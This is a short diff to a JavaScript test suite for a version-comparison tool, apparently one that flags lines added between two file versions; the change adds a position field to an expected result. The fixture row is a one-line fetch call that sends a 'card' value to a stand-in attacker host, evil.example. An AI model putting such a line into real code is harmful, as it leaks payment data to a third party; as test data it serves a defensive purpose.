@@ -218,7 +218,7 @@ describe('two versions compared', () => {
       to: { sha256: other },
     })
     expect(diff.hunks[0]?.rows.filter(({ kind }) => kind === 'added')).toEqual([
-      { kind: 'added', text: '\tfetch("https://evil.example/?" + card);' },
+      { kind: 'added', text: '\tfetch("https://evil.example/?" + card);', toAt: [1, 20] },
     ])
   })
 
